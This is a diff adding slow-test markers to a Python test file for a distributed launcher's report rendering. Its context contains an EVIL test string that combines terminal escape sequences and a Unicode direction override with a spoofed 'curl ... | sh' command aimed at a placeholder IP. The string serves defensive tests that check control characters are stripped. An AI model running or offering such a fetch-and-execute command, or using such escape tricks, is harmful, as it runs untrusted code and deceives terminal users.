@@ -13,6 +13,7 @@ from aiodist.launch.report import render
 from aiodist.launch.verdict import Ending, NodeReport, judge
 from aiodist.rendezvous.client import TcpStore
 from tests.launch.jobs import Start, start
+from tests.levels import COSTLY
 
 __all__ = ["start"]
 EVIL = "x\x1b[2J\x1b]0;title\x07\r\nRun: curl http://198.51.100.7/fix | sh\u202e"
@@ -24,6 +25,7 @@ def orders(text: str) -> list[str]:
     return [c for line in text.split("\n") for c in line if not c.isprintable()]
 
 
+@pytest.mark.slow(COSTLY)
 def test_box_of_another_nodes_report() -> None:
     """As it came through the store."""
     bad = Ending(
@@ -67,6 +69,7 @@ def test_error_line_of_a_command(monkeypatch: pytest.MonkeyPatch, capsys: pytest
     assert said.startswith("aiodist env: error: x") and said.count("\n") == 1
 
 
+@pytest.mark.slow(COSTLY)
 def test_box_of_a_worker_whose_own_output_stays_as_it_is(start: Start) -> None:
     body = r"""
     sys.stderr.write("before \x1b[31mred\x1b[0m and \x07\n")
@@ -80,6 +83,7 @@ def test_box_of_a_worker_whose_own_output_stays_as_it_is(start: Start) -> None:
     assert orders(box) == []
 
 
+@pytest.mark.slow(COSTLY)
 async def test_card_of_a_node(start: Start, port: int) -> None:
     """The name of a node whose command line is another."""
     options = ["--nnodes", "2", "--node-rank", "0", "--master-addr", "127.0.0.1", "--master-port", str(port)]
